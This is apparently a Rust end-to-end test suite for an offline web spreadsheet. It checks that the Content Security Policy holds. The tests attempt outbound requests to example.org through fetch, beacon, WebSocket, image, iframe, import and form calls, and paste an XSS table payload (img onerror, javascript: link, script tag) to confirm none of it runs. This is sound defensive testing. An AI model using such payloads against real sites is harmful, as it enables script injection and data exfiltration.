//! What the page may not do: speak to others, run what a table says, load what is not its own.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use e2e::{Stage, journey};
use serde_json::json;
use thirtyfour::prelude::*;
use xtask::project;

const SHOWN_TABLE: &str = "document.querySelector('[data-store].open')?.dataset.store ?? null";
const SAVE_STATE: &str = "document.querySelector('[data-save-state]')?.dataset.saveState ?? null";
/// What the policy forbade, in this and all later documents of the tab.
const COUNT_VIOLATIONS: &str = "window.violations = []; document.addEventListener(
    'securitypolicyviolation',
    ({ effectiveDirective, blockedURI }) => violations.push(effectiveDirective + ' ' + blockedURI),
);";

#[test]
fn a_walk_through_the_application_breaks_no_rule_of_the_policy() -> Result<()> {
    journey("policy-walk", async |stage: &mut Stage| {
        stage.run_before_pages(COUNT_VIOLATIONS).await?;
        stage.open().await?;
        stage.wait_until_kept_offline().await?;
        stage.open().await?;

        let file = project::root().join("tests/data/airports.csv");
        let input = stage.wait_for("[data-open-file]").await?;
        input.send_keys(file.to_string_lossy()).await?;
        stage.wait_until(SHOWN_TABLE, "airports").await?;
        edit(stage, "1.5").await?;
        stage.wait_until(SAVE_STATE, "saved").await?;
        stage.wait_for("[data-action=export-csv]").await?.click().await?;
        stage.wait_for("dialog [data-action=confirm]").await?.click().await?;
        wait_for_download(stage).await?;
        stage.wait_for("[data-action=about]").await?.click().await?;
        stage.wait_for("[data-action=close-about]").await?.click().await?;
        stage.wait_for("[data-action=store-menu]").await?.click().await?;
        stage.wait_for("[role=menu]").await?;

        assert_eq!(stage.evaluate("window.violations").await?, json!([]));
        Ok(())
    })
}

#[test]
fn nothing_leaves_for_any_other_host() -> Result<()> {
    journey("one-origin", async |stage: &mut Stage| {
        stage.open().await?;
        stage.wait_until_kept_offline().await?;
        edit(stage, "1.5").await?;
        stage.wait_until(SAVE_STATE, "saved").await?;

        let addresses = "performance.getEntriesByType('resource').map((entry) => entry.name)";
        let addresses = stage.evaluate(addresses).await?;

        let addresses = addresses.as_array().cloned().unwrap_or_default();
        ensure!(addresses.len() >= 3, "a style, a script and a module: {addresses:?}");
        for address in addresses {
            let address = address.as_str().unwrap_or_default();
            ensure!(address.starts_with(&stage.url()), "{address} is on another host");
        }
        stage.excuse_console_error("Content Security Policy");
        for (attempt, directive) in [
            ("fetch('https://example.org/').catch(() => {})", "connect-src"),
            ("navigator.sendBeacon('https://example.org/', 'x')", "connect-src"),
            ("new WebSocket('wss://example.org/')", "connect-src"),
            ("new Image().src = 'https://example.org/x.png'", "img-src"),
            (
                "document.body.append(Object.assign(document.createElement('iframe'), \
                { src: 'https://example.org/' }))",
                "frame-src",
            ),
            ("import('https://example.org/x.js').catch(() => {})", "script-src-elem"),
            (
                "(() => { const form = document.createElement('form'); \
                form.action = 'https://example.org/'; document.body.append(form); \
                form.submit(); })()",
                "form-action",
            ),
        ] {
            let forbidden = format!(
                "new Promise((done) => {{ addEventListener('securitypolicyviolation', \
                    (event) => done(event.effectiveDirective), {{ once: true }}); \
                    try {{ {attempt} }} catch {{ }} setTimeout(() => done('nothing'), 5000) }})"
            );
            let found = stage.evaluate(&forbidden).await.with_context(|| attempt)?;
            assert_eq!(found, directive, "{attempt}");
        }
        Ok(())
    })
}

#[test]
fn what_stands_in_a_table_never_becomes_markup() -> Result<()> {
    journey("hostile-table", async |stage: &mut Stage| {
        stage.run_before_pages(COUNT_VIOLATIONS).await?;
        stage.open().await?;
        let hostile = "<img src=x onerror=\"window.owned = true\">";
        let table =
            format!("{hostile}\tlink\n{hostile}\tjavascript:window.owned=1\n</td><script>\t1\n");

        stage.paste(&table).await?;
        stage.wait_until(SHOWN_TABLE, "Pasted table").await?;

        let cell = "document.querySelector(\"[data-row='0'][data-column='0']\").textContent";
        stage.wait_until(cell, hostile).await?;
        let made = "document.querySelectorAll('.app img, .app script, .app a').length";
        assert_eq!(stage.evaluate(made).await?, 0);
        assert_eq!(stage.evaluate("[window.owned ?? null, violations]").await?, json!([null, []]));
        Ok(())
    })
}

async fn edit(stage: &Stage, text: &str) -> Result<()> {
    stage.wait_for("[data-row='0'][data-column='1']").await?.click().await?;
    stage.press(Key::F2).await?;
    let editor = stage.wait_for("[data-editor]").await?;
    editor.send_keys(Key::Control + "a").await?;
    editor.send_keys(text).await?;
    Ok(editor.send_keys(Key::Enter + "").await?)
}

async fn wait_for_download(stage: &Stage) -> Result<()> {
    for _ in 0..600 {
        if stage.downloads().join("airports.csv").is_file() {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    anyhow::bail!("nothing was downloaded within 30 s")
}
